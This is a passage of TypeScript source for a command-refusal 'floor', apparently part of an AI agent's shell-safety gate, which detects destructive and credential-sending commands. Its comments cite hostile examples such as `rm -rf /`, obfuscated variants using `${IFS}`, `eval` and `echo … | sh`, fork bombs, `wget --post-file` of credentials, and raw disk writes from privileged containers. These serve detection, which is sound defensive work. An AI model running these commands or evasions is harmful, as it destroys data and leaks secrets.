/**
 * The hardline floor (D§5): a small, fixed, unconfigurable set of refusals for the certainly
 * catastrophic. It applies at every rung, bypass included, and nothing lifts it, so it is
 * built to prefer a miss over a false positive on everyday commands.
 *
 * How a command is read:
 * - resolved → every segment's exact argv, looked at through wrappers (`sudo`, `env`, `timeout`,
 *   …) and into executor payloads (`sh -c`, `find -exec`, `git rebase --exec`, …), which are read
 *   back through the resolver up to {@link MAX_PAYLOAD_DEPTH} levels deep (then through the
 *   text fallback, up to {@link MAX_TEXT_PAYLOAD_DEPTH});
 * - unresolved → the normalised text, split by a tolerant reader into the same shape, so making a
 *   command unresolvable (`rm -rf / $(true)`, `{ rm -rf /; }`) does not dodge the floor. Quoted
 *   text stays an argument on both paths: `grep -rn "rm -rf /" docs` is never refused.
 * - an opaque word (`$HOME`, `/*`) is judged by its source text.
 * Pipelines are checked as a whole for the credential-exfiltration arm, and for text a literal
 * producer (`echo`, `printf`, `cat <<EOF`, `jq -rn '"…"'`, `awk 'BEGIN{print …}'`) pipes into a
 * program that runs its standard input as code (the table's `stdinCode`: `sh`, `at`, `python3 -`,
 * `ed`, `make -f -` …) or into `xargs` (`echo 'rm -rf /' | sh`).
 * - a program with no row, or with words its row cannot place, may be a launcher: its words are
 *   read as commands and shell text too ({@link checkUnplacedWords}).
 */
import type { HardlineRecord } from '../decision';
import { MAX_PAYLOAD_DEPTH, parallelRuns, remoteCommandPayloads, wordText } from '../programs/executorPayloads';
import { foldCompatibility, hasNonAscii } from '../reading/normalise';
import { readCommand, type CommandReading } from '../reading/reading';
import { MAX_COMMAND_LENGTH, type Redirect, type Segment, type Word } from '../reading/resolution';
import { peelWrappers, type PeeledCommand } from '../programs/wrappers';
import { argvRecord, type SegmentRecord } from '../programs/segmentRecord';
import { pushOf } from '../programs/pushes';
import { containerRun, placeInside, unplacedRunPlace, placesAlong, placesOfSegments, startPlace, type PathPlace } from '../programs/pathResolver';
import type { Command } from '../programs/row';
import { readArgs } from '../programs/grammar';
import { leavesWordsUnplaced, programRows, rowFor, stdinCodeOf, type FormReading } from '../programs/table';
import { declaredCommands } from './declaredCommands';
import { echoEscapes, printfOutput } from '../programs/printfFormat';
import { readAwkCommand, stringLiteralsOf } from '../programs/awk';
import { hardlineFinding, type HardlineFinding } from './arms';
import { commandName, literalText, readByRow } from './commandName';
import { checkRedirects } from './devices';
import { checkDeviceWords } from './deviceWords';
import { checkProtectedTrees, checkRedirectedFiles } from './protectedTrees';
import { checkPrivilegedUnknown, checkUnplacedAccountDeleter, checkUnplacedEraser } from './privilegedUnknown';
import { checkApplianceCommands } from './applianceCommands';
import { engineRunOverSocket } from './engineSocket';
import { checkExfiltration, checkThroughFiles, maySend, opensZshSocket } from './exfiltration';
import { checkMappedRedirects } from './hosts';
import { checkEmptiedFiles } from './emptiedFiles';
import { checkReplacedTrees } from './replacedTrees';
import { findShellForkBomb } from './forkBomb';
import { isNetworkDevicePath, isRawBlockDevicePath, wordPathText } from './paths';
import { checkProgram, isHardlineProgram } from './programArms';
import { checkPatternMove } from './patternMoves';
import { checkPowerWords, checkStdinCodeEndsSession } from './power';
import { checkStorageServices } from './storageServices';
import { checkFirmwareFlasher, checkFirmwareStore } from './firmwareFlashers';
import { checkStorageDestroyer } from './storageVerbs';
import type { Rechecker } from './deletion';
import { readTextCommands, type TextCommand } from './textCommands';
import { nullCommandTexts, zshArgvReadings, zshLoopReadings, zshRemapReadings } from './zshForms';
import { codePayloads, readProgramCode, stdinCodeTextPayloads, stdinPayloads, unplacedCodePayloads } from '../programs/languages';
import { documentCells } from '../programs/languages/documentCells';
import { printedAtWorst, printsEveryPackage } from './listings';
import { removesPackagesHanded } from './essentialPackages';
import { codePrintedAtWorst, convertedPath, decodedAtWorst, windowsVariablePrinted, interpreterPrinted, lineWithValues, listedPaths, listedText, listingWords, transformedText, xargsCommands, type Produced } from './dataFlow';
import { isServiceAccount } from './ownAccount';
import { killsBySession, printsAccountProcesses, printsEveryProcess, printsEverySession, spellsEndingSignal, spellsSignal } from './processes';
import { powerShellAsShell, powerShellCode, powerShellReadsStdin } from '../programs/languages/powershellStatements';
import { isPrintCallName } from '../programs/languages/approximate';
import { checkWindowsStdin, checkWslUnregister } from './windows';
import { windowsWordsAsWritten } from './windowsWords';
import { substitutedCommand, substitutedScriptRun, writtenScriptRuns, type ScriptRun, type WrittenText } from './writtenScripts';
import { checkPushedFolders } from './pushedFolders';
import { producerAsSubstitution, readLoopBodies } from './readLoops';
import { functionCallsText } from './functionCalls';
import { xargsInputAsPipe } from './inputAsPipe';
import { shellTextWithArguments, stdinTextWithArguments } from './shellArguments';
import { payloadsWithInput } from './payloadInput';
import { podsOnInput } from './podsOnInput';
import { unplacedSinkTexts } from './unplacedPipes';
import { bashSingleQuote } from '../execution/terminalShellInit';

export type { HardlineArm } from './arms';
export { HARDLINE_ARMS } from './arms';

export { MAX_PAYLOAD_DEPTH };

/**
 * Deeper payloads (`eval eval eval … rm -rf /`) are still followed, by the text fallback, up to
 * this level; below it a payload's own payloads are no longer read. The shared character budget
 * keeps the total work linear whatever the depth.
 */
export const MAX_TEXT_PAYLOAD_DEPTH = 32;

/** At most this many alternative readings of an inexactly unwrapped argv are tried. */
const MAX_REANCHORED = 8;

/** A simple command as the floor sees it, from the resolver or from the tolerant text reader. */
interface CommandShape extends ArgvView {
  argv: readonly Word[];
  redirects: readonly Redirect[];
  /** Commands with the same unit form one pipeline. */
  unit: number;
  /** The command whose output this one reads through a pipe. */
  pipedFrom: CommandShape | null;
  /** Every command of a group or subshell piped in (textCommands.ts `pipedGroup`), or undefined. */
  pipedGroup?: readonly CommandShape[];
  /** Where it runs and how its paths land (the path resolver's walk along the line). */
  place: PathPlace;
  /** Heredoc or here-string text on stdin. */
  stdinText: string | null;
}

interface SharedWalk {
  /** Characters of payload text and words of nested commands still allowed to be read. */
  remaining: number;
  /**
   * Payloads already read, shell text and argv (joined by NUL) apart: chains like
   * `watch watch watch …` repeat their suffixes. Made when the first payload is read (most
   * commands carry none); two sets rather than one keyed by `kind:key`, which would build a
   * string per payload just to look it up.
   */
  seenText: Set<string> | null;
  seenArgv: Set<string> | null;
  /**
   * The first program without a row that says it erases, found in shell text below the line
   * (`sh -c '… chiperase'`): kept until every other arm has read the whole line, so that a refusal
   * names the most that is known ({@link checkErasers}).
   */
  eraser?: HardlineFinding;
}

/**
 * Where a check stands: the home folder, the payload nesting level, and the walk shared by every
 * level. A fresh one per level: find's re-check reads the depth it was met at.
 */
class Context implements Rechecker {
  constructor(
    /** Where the text being checked starts: the place of the command that runs it. */
    readonly place: PathPlace,
    /** Payload nesting level of the text being checked (0 for the command itself). */
    readonly depth: number,
    /** What the whole check shares, at every depth. */
    readonly shared: SharedWalk,
    /**
     * The text is only guessed to be shell text: a word of a program without a row, read at its
     * worst as a command (`frob --msg="please erase the cache"`), and so is everything below it.
     */
    readonly guessed = false,
  ) {}

  get home(): string {
    return this.place.home;
  }

  /** This context for a command that runs elsewhere (another place, same depth and walk). */
  at(place: PathPlace): Context {
    return place === this.place ? this : new Context(place, this.depth, this.shared, this.guessed);
  }

  /**
   * find's `{}` filled in with the starting folder: judged on its own argv (its payloads are
   * the same as those of the unfilled command, which checkPayloads reads). A method rather than
   * a closure over the context: nearly no command needs it, and none then pays for making one.
   */
  recheck(inner: Word[]): HardlineFinding | null {
    const next = deeper(this, this.place);
    return pay(next, inner.length) ? (checkDirect({ argv: inner }, [], next, this.place) ?? checkShellArguments(inner, next, this.place) ?? checkNestedSend({ argv: inner }, next, this.place)) : null;
  }
}

/**
 * Null when no arm fires. Unconfigurable. `cwd` is the folder the command runs in (relative
 * paths are judged from there; null when not known); links already on disk are read. `records`:
 * the record of each segment of a resolved reading (programs/segmentRecord.ts), when the caller
 * has made them (the pipeline makes them once per decision); otherwise the floor makes its own.
 */
export function checkHardline(reading: CommandReading, cwd: string | null = null, cdpath?: string, records?: readonly SegmentRecord[]): HardlineRecord | null {
  const context = new Context(startPlace(reading.home, cwd, true, cdpath), 0, { remaining: 4 * MAX_COMMAND_LENGTH, seenText: null, seenArgv: null });
  const found = checkReading(reading, context, records) ?? context.shared.eraser ?? null;
  return found === null ? null : { arm: found.arm, detail: found.detail };
}

function checkReading(reading: CommandReading, context: Context, records?: readonly SegmentRecord[]): HardlineFinding | null {
  // Values set on the line are read from the original text too: `$'…'` keeps its escapes there (dataFlow.ts).
  // So is the whole line: the detection text drops backslashes, and with them printf's and echo's
  // escapes (`make -f <(printf 'all:\n\trm -rf ~')` prints a recipe line only with its `\n\t`).
  if (!reading.resolution.resolved) {
    return checkText(reading.normalised, context) ?? (reading.original === reading.normalised ? null : checkText(reading.original, context)) ?? checkLineValues(reading.original, context);
  }
  const segments = reading.resolution.segments;
  const shapes = shapesOfSegments(segments, context.place, records);
  const found = checkCommands(shapes, context);
  if (found !== null) return found;
  // A here-text read as data is still read as the text reader reads it (docs/decisions.md "Data
  // that only looks like code"): the floor finds at least what it found when such lines were unresolved.
  if (segments.some((segment) => segment.hereText !== undefined)) {
    const asText = checkText(reading.normalised, context);
    if (asText !== null) return asText;
  }
  // `sudo rm${IFS}-rf${IFS}/` resolves (the words after sudo are only opaque): read the IFS-spaced text too.
  return ifsSpacedText(reading.normalised, context) ?? checkNullCommands(reading.normalised, context) ?? checkLineValues(reading.original, context) ?? checkXargsInput(reading.normalised, context) ?? erasersOf(shapes, context);
}

function shapesOfSegments(segments: readonly Segment[], start: PathPlace, records?: readonly SegmentRecord[]): CommandShape[] {
  const places = placesOfSegments(segments, start);
  const shapes: CommandShape[] = [];
  let unit = 0;
  for (let index = 0; index < segments.length; index++) {
    const segment = segments[index]!;
    const before = segments[index - 1];
    const piped = before !== undefined && (before.connector === '|' || before.connector === '|&');
    if (before !== undefined && !piped) unit++;
    // The lazily filled fields are present from the start: one object shape for every command.
    shapes.push({
      argv: segment.argv,
      redirects: segment.redirects,
      unit,
      pipedFrom: piped ? shapes[index - 1]! : null,
      pipedGroup: undefined,
      place: places[index]!,
      stdinText: segment.hereText?.body ?? null,
      assignments: segment.assignments,
      // The segment's record as the stages read it, unless the floor reads its words folded.
      record: records?.[index] !== undefined && !hasNonAsciiLiteral(segment.argv) ? records[index] : undefined,
    });
  }
  return shapes;
}

/** The tolerant reader's commands with the place of each filled in. */
function textShapes(commands: TextCommand[], start: PathPlace): CommandShape[] {
  const places = placesAlong(
    commands.map((command, index) => ({ argv: command.argv, ownShell: command.pipedFrom !== null || commands[index + 1]?.pipedFrom === command })),
    start,
  );
  for (let k = 0; k < commands.length; k++) commands[k]!.place = places[k]!;
  return commands as CommandShape[];
}


/** Unresolved text: fork bombs on the raw structure, then every command the tolerant reader finds. */
function checkText(text: string, context: Context): HardlineFinding | null {
  const bomb = findShellForkBomb(text);
  if (bomb !== null) return hardlineFinding('fork-bomb', `the function ${bomb} calls itself twice per call and is then run`);
  const found = checkCommands(textShapes(readTextCommands(text, context.home), context.place), context);
  if (found !== null) return found;
  return ifsSpacedText(text, context) ?? checkNullCommands(text, context) ?? checkLineValues(text, context) ?? checkReadLoops(text, context) ?? checkXargsInput(text, context);
}

/**
 * `rm${IFS}-rf${IFS}/`: unquoted, the default IFS splits the word where it stands (D§5). The text
 * is read again with each such expansion as a blank (quoted ones stay inside their word), unless the
 * line assigns IFS itself.
 */
function ifsSpacedText(text: string, context: Context): HardlineFinding | null {
  if (!IFS_EXPANSION.test(text) || /(^|[\s;&|(])IFS\+?=/.test(text)) return null;
  return checkPayloadText(text.replace(IFS_EXPANSIONS, ' '), true, context, context.place);
}

/** `$IFS`, `${IFS}` and `${IFS…}` (`${IFS%?}`, `${IFS:0:1}`): a blank where the default IFS is in force. */
const IFS_EXPANSION = /\$(\{IFS[^}]*\}|IFS(?![A-Za-z0-9_]))/;
const IFS_EXPANSIONS = new RegExp(IFS_EXPANSION.source, 'g');

function checkCommands(lineCommands: readonly CommandShape[], context: Context): HardlineFinding | null {
  const commands = withWindowsWordsAsWritten(withZshReadings(lineCommands, context.home));
  // Every command's own argv first, so that no amount of payload work can crowd out a plain
  // `rm -rf /` later in the line.
  // Indexed loops here and below: these run once per command of a line that may hold
  // thousands, often before the optimiser has seen them, where `for…of` costs an iterator.
  for (let k = 0; k < commands.length; k++) {
    const command = commands[k]!;
    const found = checkDirect(command, command.redirects, context, command.place);
    if (found !== null) return found;
  }
  // Then payloads, cheapest first: the budget for nested reading is shared, and a few huge
  // overlapping words (text read from nested substitutions) must not use it up before a short
  // `sh -c 'rm -rf /'` elsewhere on the line is read.
  const byCost = payloadOrder(commands);
  for (let k = 0; k < byCost.length; k++) {
    const command = commands[byCost[k]!]!;
    const found = checkPayloads(command, command.stdinText, context, command.place);
    if (found !== null) return found;
  }
  return checkPipelines(commands, context) ?? checkWrittenScripts(commands, context) ?? checkPushedFolders(commands, (command) => recordOfView(command).inside);
}

/**
 * Last, a program the gate cannot read whose words say it erases (privilegedUnknown.ts): after
 * every arm that reads what such a command does exactly (a task file written on the line and run
 * by name says which folder it deletes), so a refusal names the most that is known. Only commands
 * read exactly that a shell runs (the line's own, and shell text such as `sh -c '…'` at any depth):
 * the tolerant reader also reads a here-document's data and a string of code as commands, and a
 * word of a program without a row is only guessed to be shell text ({@link Context.guessed}),
 * where "erase" is a word of a sentence; a task file a later command loads is read as text too.
 * Below the line a finding waits in {@link SharedWalk.eraser} until every arm has read the whole
 * line; the line's own commands are read last of all.
 */
function erasersOf(commands: readonly CommandShape[], context: Context): HardlineFinding | null {
  if (context.guessed) return null;
  const found = checkErasers(commands);
  if (context.depth === 0 || found === null) return found;
  context.shared.eraser ??= found;
  return null;
}

function checkErasers(commands: readonly CommandShape[]): HardlineFinding | null {
  for (let k = 0; k < commands.length; k++) {
    const found = checkUnplacedEraser(recordOfView(commands[k]!));
    if (found !== null) return found;
  }
  return null;
}

/** A script a literal producer writes into a file that a later command runs (hardline/writtenScripts.ts). */
function checkWrittenScripts(commands: readonly CommandShape[], context: Context): HardlineFinding | null {
  if (context.depth >= MAX_TEXT_PAYLOAD_DEPTH) return null;
  for (const run of writtenScriptRuns(commands, (command) => producedText(command as CommandShape), (command) => innerArgv(command as CommandShape))) {
    const found = checkScriptRun(run, context);
    if (found !== null) return found;
  }
  return null;
}

/** A program reading a script's text on its standard input, as writtenScripts.ts hands it back. */
function checkScriptRun(run: ScriptRun, context: Context): HardlineFinding | null {
  // A configuration file a tool loads by convention: what its language's strings and lists say.
  if (run.language !== undefined) {
    for (const text of run.texts) {
      for (const payload of stdinCodeTextPayloads(text, run.language)) {
        const inCode = payload.kind === 'fork-loop' ? hardlineFinding('fork-bomb', `${payload.via} runs ${payload.what}`) : checkPayloadText(payload.text, true, context, run.place);
        if (inCode !== null) return inCode;
      }
    }
    return null;
  }
  const found = checkStdinCode(argvRecord(run.argv), run.texts, run.exact, context, run.place);
  if (found !== null) return found;
  // An interpreter's script is also read by its language's reader, as code fed on its input is.
  for (const text of run.texts) {
    const inCode = checkPayloads({ argv: run.argv }, text, context, run.place);
    if (inCode !== null) return inCode;
  }
  return run.code === undefined ? null : checkFileAsCode(run.code, run.texts, context, run.place);
}

/**
 * A written file a program may run as code of its own (writtenScripts.ts `code`): a notebook's or a
 * literate document's cells, each by its language's reader (`quarto render x.qmd`, `papermill
 * x.ipynb`, `jupyter nbconvert --execute`), else the whole text as the program's language (its
 * row, or the generic one: deletion and process calls, home expressions).
 */
function checkFileAsCode(program: string, texts: readonly string[], context: Context, place: PathPlace): HardlineFinding | null {
  for (const text of texts) {
    const cells = documentCells(text);
    const pieces = cells.length > 0 ? cells : [{ program, code: text }];
    for (const cell of pieces) {
      if (cell.program === 'sh') {
        const inShell = checkPayloadText(cell.code, true, context, place);
        if (inShell !== null) return inShell;
        continue;
      }
      for (const payload of stdinCodeTextPayloads(cell.code, cell.program)) {
        const inCode = payload.kind === 'fork-loop' ? hardlineFinding('fork-bomb', `${payload.via} runs ${payload.what}`) : checkPayloadText(payload.text, true, context, place);
        if (inCode !== null) return inCode;
      }
    }
  }
  return null;
}

/**
 * The commands with, after each, the other argvs zsh may run for it (hardline/zshForms.ts:
 * `{rm -rf /}`, `if [[ … ]] { … }`, loop bodies with their values, programs the line remaps with
 * `alias`, `hash` or `commands[…]=`): the line itself when there are none, as for most lines.
 */
function withZshReadings(commands: readonly CommandShape[], home: string): readonly CommandShape[] {
  let out: CommandShape[] | null = null;
  const loops = [...zshLoopReadings(commands), ...zshRemapReadings(commands, home)];
  for (let k = 0; k < commands.length; k++) {
    const command = commands[k]!;
    const readings: Array<{ argv: Word[]; redirects?: Redirect[] }> = zshArgvReadings(command.argv).map((argv) => ({ argv }));
    for (const loop of loops) if (loop.at === k) readings.push(loop);
    if (readings.length === 0) {
      out?.push(command);
      continue;
    }
    out ??= commands.slice(0, k);
    out.push(command);
    for (const { argv, redirects } of readings) out.push({ ...command, argv, redirects: redirects ?? command.redirects, record: undefined });
  }
  return out ?? commands;
}

/**
 * The commands with, after each that runs a Windows program given a word bash strips of its
 * backslashes, the same command with its words as written (hardline/windowsWords.ts).
 */
function withWindowsWordsAsWritten(commands: readonly CommandShape[]): readonly CommandShape[] {
  let out: CommandShape[] | null = null;
  for (let k = 0; k < commands.length; k++) {
    const command = commands[k]!;
    const written = windowsWordsAsWritten(command.argv);
    if (written === null) {
      out?.push(command);
      continue;
    }
    out ??= commands.slice(0, k);
    out.push(command, { ...command, argv: written, record: undefined });
  }
  return out ?? commands;
}

/** `NULLCMD=X` on the line: a redirect with no command runs X in zsh (hardline/zshForms.ts). */
function checkNullCommands(text: string, context: Context): HardlineFinding | null {
  for (const run of nullCommandTexts(text)) {
    const found = checkPayloadText(run, true, context, context.place);
    if (found !== null) return found;
  }
  return null;
}

/**
 * The commands' indexes by payload cost, ties in line order (a stable sort by cost). Lines are
 * often in that order already (text read from nested substitutions grows word by word), which
 * one pass finds; otherwise each key packs cost and index into one number, so the typed
 * array's own numeric sort orders them without a comparator call per pair.
 */
export function payloadOrder(commands: readonly PayloadCarrier[]): ArrayLike<number> {
  const count = commands.length;
  // Most lines hold one or a few commands: a plain array, sorted by insertion (stable, so the
  // same order as below), costs less than making typed arrays.
  if (count <= SMALL_ORDER) return smallPayloadOrder(commands);
  const costs = new Float64Array(count);
  let sorted = true;
  for (let k = 0; k < count; k++) {
    costs[k] = payloadCost(commands[k]!);
    if (k > 0 && costs[k]! < costs[k - 1]!) sorted = false;
  }
  const order = new Float64Array(count);
  if (sorted) {
    for (let k = 0; k < count; k++) order[k] = k;
    return order;
  }
  if (count > INDEX_SPAN || costs.some((cost) => cost >= MAX_PACKED_COST)) {
    // Beyond what a key holds exactly (only text far over the resolver's limit gets here).
    return Array.from(order, (_, index) => index).sort((a, b) => costs[a]! - costs[b]! || a - b);
  }
  for (let k = 0; k < count; k++) order[k] = costs[k]! * INDEX_SPAN + k;
  order.sort();
  for (let k = 0; k < count; k++) order[k] = order[k]! % INDEX_SPAN;
  return order;
}

const ONLY_FIRST: readonly number[] = Object.freeze([0]);

/** Up to this many commands, {@link smallPayloadOrder} orders them. */
const SMALL_ORDER = 8;

/** `[0, 1, …, n - 1]` for each n up to {@link SMALL_ORDER}, shared (callers only read an order). */
const SMALL_IDENTITY: ReadonlyArray<readonly number[]> = Array.from({ length: SMALL_ORDER + 1 }, (_, n) =>
  Object.freeze(Array.from({ length: n }, (_unused, k) => k)),
);

/** {@link payloadOrder} for a few commands: indexes by cost, ties in line order (a stable insertion sort). */
function smallPayloadOrder(commands: readonly PayloadCarrier[]): readonly number[] {
  // One command (most lines): nothing to order.
  if (commands.length === 1) return ONLY_FIRST;
  // Costs already in line order (`cd x && make`, text growing word by word): the stable sort
  // leaves every index where it is, and the shared identity spares making the two arrays.
  let inOrder = true;
  for (let k = 0, previous = 0; k < commands.length && inOrder; k++) {
    const cost = payloadCost(commands[k]!);
    inOrder = cost >= previous;
    previous = cost;
  }
  if (inOrder) return SMALL_IDENTITY[commands.length]!;
  const order: number[] = [];
  const costs: number[] = [];
  for (let k = 0; k < commands.length; k++) {
    const cost = payloadCost(commands[k]!);
    let at = k;
    // Move past every earlier command that costs more; an equal cost stays first.
    while (at > 0 && costs[at - 1]! > cost) {
      order[at] = order[at - 1]!;
      costs[at] = costs[at - 1]!;
      at--;
    }
    order[at] = k;
    costs[at] = cost;
  }
  return order;
}

/** The low part of a {@link payloadOrder} key is the index; keys stay below 2^53, so exact. */
const INDEX_SPAN = 2 ** 21;
const MAX_PACKED_COST = 2 ** 31;

/** What a command's payload cost is worked out from (exported with {@link payloadOrder} for its tests). */
export interface PayloadCarrier {
  argv: readonly Word[];
  stdinText: string | null;
}

function payloadCost(command: PayloadCarrier): number {
  let cost = command.stdinText?.length ?? 0;
  for (let k = 0; k < command.argv.length; k++) cost += command.argv[k]!.raw.length;
  return cost;
}

function foldWord(word: Word): Word {
  if (word.kind !== 'literal') return word;
  const value = foldCompatibility(word.value);
  return value === word.value ? word : { kind: 'literal', value, raw: word.raw };
}

/**
 * An argv and the record of its words as the floor reads them (literal values NFKC-folded:
 * fullwidth `ｒｍ` reads as `rm`), made at most once: the direct checks, the payload reader and
 * the pipeline checks all read the command through it (D§5 "Positive knowledge"). A segment of a
 * resolved line comes with the record every stage reads; any other command (a payload's argv,
 * a command of the text reader, a zsh reading) gets one of its own when first read.
 */
interface ArgvView {
  argv: readonly Word[];
  redirects?: readonly Redirect[];
  /** `NAME=VALUE` in front of the command, when the record is made here (commandVariables.ts reads them). */
  assignments?: ReadonlyArray<{ name: string; value: Word }>;
  record?: SegmentRecord;
}

/** The record of the view's words, folded: made the first time it is asked for. */
function recordOfView(view: ArgvView): SegmentRecord {
  view.record ??= argvRecord(hasNonAsciiLiteral(view.argv) ? view.argv.map(foldWord) : view.argv, view.redirects, view.assignments);
  return view.record;
}

function hasNonAsciiLiteral(argv: readonly Word[]): boolean {
  for (let k = 0; k < argv.length; k++) {
    const word = argv[k]!;
    if (word.kind === 'literal' && hasNonAscii(word.value)) return true;
  }
  return false;
}

/** The program's argv inside its wrappers (the argv itself when it starts with none). */
function innerArgv(view: ArgvView): readonly Word[] {
  return recordOfView(view).peeled.argv;
}

/**
 * {@link innerArgv} of the words as written, not folded (what the kill-all producers read,
 * processes.ts): the record's when its words are those, else peeled here.
 */
function wordsAsWritten(view: ArgvView): readonly Word[] {
  return hasNonAsciiLiteral(view.argv) ? peelWrappers(view.argv).argv : innerArgv(view);
}

/**
 * One simple command's redirects and the program inside its wrappers; payloads aside. `place`:
 * where the command runs (a wrapper such as `env -C` may move the program it runs).
 */
function checkDirect(view: ArgvView, redirects: readonly Redirect[], context: Context, place: PathPlace): HardlineFinding | null {
  const redirected = checkRedirects(redirects) ?? checkMappedRedirects(redirects, place) ?? checkRedirectedFiles(redirects, place);
  if (redirected !== null) return redirected;
  const record = recordOfView(view);
  return checkRecord(record, context, place) ?? checkFirmwareFlasher(record) ?? checkFirmwareStore(record) ?? checkStorageDestroyer(record) ?? checkUnplacedAccountDeleter(record) ?? checkApplianceCommands(record);
}

/** The program inside its wrappers, read by every arm of the argv. */
function checkRecord(record: SegmentRecord, context: Context, place: PathPlace): HardlineFinding | null {
  // No wrapper: the argv itself is the one exact reading (what peeling it would give).
  if (!record.wrapped) return checkArgv(record, place, context, record.segment.assignments);
  const unwrapped = record.peeled;
  const unregistered = checkWslUnregister(unwrapped.layers) ?? checkPrivilegedUnknown(record);
  if (unregistered !== null) return unregistered;
  const inner = placeInside(place, unwrapped.layers);
  // The variables in front of the command and those its wrappers set (`env A=1`, `sudo A=1`).
  const environment = [...record.segment.assignments, ...unwrapped.layers.flatMap((layer) => layer.assignments)];
  // Read exactly, the unwrapped argv is the only reading.
  if (unwrapped.exact) return checkArgv(record.inside, inner, context, environment);
  const candidates = readings(unwrapped);
  for (let k = 0; k < candidates.length; k++) {
    // The first reading is the command inside the wrappers; the others are re-anchored words.
    const found = checkArgv(k === 0 ? record.inside : argvRecord(candidates[k]!), inner, context, environment);
    if (found !== null) return found;
  }
  return null;
}

/**
 * The arms of the program, then the command it runs in a container with host folders bound in.
 * `command`: the record of the program's argv, wrappers peeled (its forms are that argv's).
 */
function checkArgv(command: SegmentRecord, place: PathPlace, context: Context, environment: ReadonlyArray<{ readonly name: string; readonly value: Word }> = []): HardlineFinding | null {
  const argv = command.argv;
  const found = checkProgram(argv, place, context.at(place)) ?? checkPowerWords(command, place) ?? checkStorageServices(command) ?? checkDeviceWords(command, place) ?? checkProtectedTrees(command, place) ?? checkEmptiedFiles(command, place) ?? checkReplacedTrees(command, place) ?? checkPatternMove(command, place);
  if (found !== null) return found;
  // A container made through the engine's socket is read as the `docker run` it is.
  const overSocket = engineRunOverSocket(argv);
  if (overSocket !== null) {
    const socketRun = checkPayloadText(overSocket, false, context, place);
    if (socketRun !== null) return socketRun;
  }
  if (!CONTAINER_PROGRAMS.has(commandName(argv[0])?.name ?? '')) return null;
  const run = containerRun(argv, place, environment);
  // With no command after the image, its own entry point runs: read where a command would stand.
  const reach = run ?? containerRun([...argv, { kind: 'literal', value: 'entrypoint', raw: 'entrypoint' }], place, environment);
  const handed = reach?.place.hostDevices === true ? deviceInEnvironment(argv) : null;
  if (handed !== null) return hardlineFinding('raw-device-write', `${commandName(argv[0])?.name ?? 'the runner'} hands ${handed} to a container that reaches this machine's devices: its image writes it at worst`);
  if (run === null) return null;
  if (run.shellText === true) return checkPayloadText(run.inner.map(wordText).join(' '), run.inner.some((word) => word.kind !== 'literal'), context, run.place);
  // The command as a line of its own too, so that what it sends is read there (`wget --post-file=/a/credentials`).
  return checkNestedCommand(run.inner, context, run.place) ?? checkPayloadText(run.inner.map((word) => (word.kind === 'literal' ? bashSingleQuote(word.value) : word.raw)).join(' '), false, context, run.place);
}

/**
 * A raw disk named in a container's environment (`-e DEST_DISK=/dev/nvme0n1`, `--env=DISK=/dev/sda`):
 * with this machine's devices in reach (`--privileged -v /dev:/dev`), the image's program is handed
 * the disk, and no row says what it does with it (Tinkerbell's `image2disk` writes it). As
 * `NAME=VALUE` in words, or null.
 */
function deviceInEnvironment(argv: readonly Word[]): string | null {
  for (let k = 1; k < argv.length; k++) {
    const text = literalText(argv[k]);
    if (text === null) continue;
    const value = text === '-e' || text === '--env' ? literalText(argv[k + 1]) : /^(?:--env=|-e)(.+)$/.exec(text)?.[1] ?? null;
    const device = value === null || !value.includes('=') ? null : value.slice(value.indexOf('=') + 1);
    if (device !== null && isRawBlockDevicePath(device, true)) return value;
  }
  return null;
}

/** Programs with a row whose commands may run a container (`docker run`): only those are read for binds. */
const CONTAINER_PROGRAMS: ReadonlySet<string> = new Set(
  programRows().flatMap((row) => (hasContainerCommand(row) ? row.names : [])),
);

function hasContainerCommand(command: Command, level = 0): boolean {
  if (command.container !== undefined) return true;
  return level < 3 && Object.values(command.subcommands ?? {}).some((sub) => hasContainerCommand(sub, level + 1));
}

/** The code one simple command runs from its arguments (and a script fed on its stdin), from `place`. */
function checkPayloads(view: ArgvView, stdinText: string | null, context: Context, outer: PathPlace): HardlineFinding | null {
  if (context.depth >= MAX_TEXT_PAYLOAD_DEPTH) return null;
  const record = recordOfView(view);
  // The payload runs where the wrappers put it (`env -C / sh -c …`).
  const place = record.wrapped ? placeInside(outer, record.peeled.layers) : outer;
  // Reading payloads turns opaque words back into text; in text read from nested substitutions
  // those words overlap, so their length is paid for up front.
  let opaqueLength = 0;
  for (let k = 0; k < view.argv.length; k++) {
    const word = view.argv[k]!;
    if (word.kind !== 'literal') opaqueLength += word.raw.length;
  }
  if (!pay(context, opaqueLength)) return null;
  const payloads = record.payloads;
  for (let k = 0; k < payloads.length; k++) {
    const payload = payloads[k]!;
    // Wrapped commands (`xargs rm …`) are already judged through unwrap.
    if (payload.kind === 'argv' && payload.via === 'xargs') continue;
    const found =
      payload.kind === 'shell-text'
        ? checkPayloadText(payload.text, payload.approximate === true, context, place)
        : checkNestedCommand(payload.argv, context, place);
    if (found !== null) return found;
  }
  const inside = record.inside;
  const inner = inside.argv;
  // A command run on another machine, taken as this one's at its worst (`ssh HOST 'sudo reboot'`).
  for (const payload of remoteCommandPayloads(inner, inside.forms.forms)) {
    const found = payload.kind === 'shell-text' ? checkPayloadText(payload.text, payload.approximate === true, context, place) : checkNestedCommand(payload.argv, context, place);
    if (found !== null) return found;
  }
  // Code in other languages (docs/languages.md): what the code does, as shell text or a fork loop.
  const code = codePayloads(inner, stdinText, inside.forms);
  for (let k = 0; k < code.length; k++) {
    const payload = code[k]!;
    const found = payload.kind === 'fork-loop' ? hardlineFinding('fork-bomb', `${payload.via} runs ${payload.what}`) : checkPayloadText(payload.text, payload.approximate, context, place);
    if (found !== null) return found;
  }
  const shellCode = checkShellCode(inside, context, place);
  if (shellCode !== null) return shellCode;
  for (const text of stdinText === null ? [] : payloadsWithInput(record, null, stdinText)) {
    const found = checkPayloadText(text, true, context, place);
    if (found !== null) return found;
  }
  if (stdinText !== null) {
    const found = sourcesStdin(inner) ? checkPayloadText(stdinText, false, context, place) : checkStdinCode(inside, [stdinText], true, context, place);
    if (found !== null) return found;
    const windows = checkWindowsInput(inner, [stdinText], context, place);
    if (windows !== null) return windows;
    const inContainer = checkContainerInput(record, [stdinText], true, context, outer);
    if (inContainer !== null) return inContainer;
  }
  return checkSubstitutedScripts(inner, context, place) ?? checkUnplacedWords(record, context, place) ?? checkScriptArguments(record, context, place) ?? checkShellArguments(inner, context, place, inside.forms);
}

/**
 * Text fed to a Windows program that reads commands on its standard input: diskpart's and
 * diskshadow's scripts (windows.ts), PowerShell's code (`-File -`, `-Command -`, no code given),
 * read as its statements.
 */
function checkWindowsInput(argv: readonly Word[], texts: readonly string[], context: Context, place: PathPlace): HardlineFinding | null {
  const found = checkWindowsStdin(argv, texts);
